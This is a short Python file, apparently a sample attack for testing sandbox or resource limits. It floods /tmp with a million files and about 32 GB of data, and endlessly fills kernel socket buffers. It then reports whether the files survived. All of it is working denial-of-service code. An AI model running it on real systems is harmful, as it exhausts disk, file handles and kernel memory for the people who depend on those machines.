"""Fills its folder with files, memory and holes, and the kernel with sockets' buffers."""

import os
import socket
import threading
import time


def files():
    for i in range(1_000_000):
        os.close(os.open(f"/tmp/{i}", os.O_CREAT | os.O_WRONLY))


def bytes_():
    for i in range(1000):
        with open(f"/tmp/large{i}", "wb") as file:
            file.write(b"x" * (32 << 20))


def buffers():
    held = []
    while True:
        ours, theirs = socket.socketpair()
        held.append((ours, theirs))
        ours.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 1 << 30)
        ours.setblocking(False)
        try:
            while True:
                ours.send(b"x" * (1 << 16))
        except BlockingIOError:
            pass


def attack():
    for attempt in (files, bytes_, buffers):
        try:
            attempt()
        except OSError:
            pass
    if os.path.exists("/tmp/100000") or os.path.exists("/tmp/large50"):
        return True
    threading.Thread(target=time.sleep, args=(9,)).start()
    return False
